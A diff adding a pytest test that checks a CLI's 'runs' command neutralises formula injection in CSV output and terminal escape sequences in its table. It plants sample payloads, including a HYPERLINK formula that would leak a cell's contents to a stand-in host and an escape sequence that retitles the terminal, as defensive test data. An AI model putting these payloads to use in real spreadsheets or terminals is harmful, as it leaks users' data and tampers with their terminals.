@@ -160,3 +160,17 @@ def _npy(array) -> bytes:
     buffer = io.BytesIO()
     np.save(buffer, array)
     return buffer.getvalue()
+
+
+def test_runs_output_neither_runs_formulas_nor_terminal_escapes(run, tmp_path):
+    """A run directory's strings reach a spreadsheet (runs --format csv) and a terminal (the table): a cell
+    starting with = + - @ is quoted as text, and control characters are escaped."""
+    summary = json.loads((run / "summary.json").read_text())
+    summary.update(status='=HYPERLINK("http://x/?"&A1,"ok")', steps="+1+1\x1b]0;pwned\x07", seconds="@SUM(1)")
+    (run / "summary.json").write_text(json.dumps(summary))
+    csv_out = run_cli("runs", tmp_path, "--format", "csv")
+    table = run_cli("runs", tmp_path)
+    assert csv_out.returncode == table.returncode == 0, csv_out.stderr + table.stderr
+    assert "'=HYPERLINK" in csv_out.stdout and "'+1+1" in csv_out.stdout and "'@SUM(1)" in csv_out.stdout
+    for out in (csv_out.stdout, table.stdout):
+        assert "\x1b" not in out and "\x07" not in out
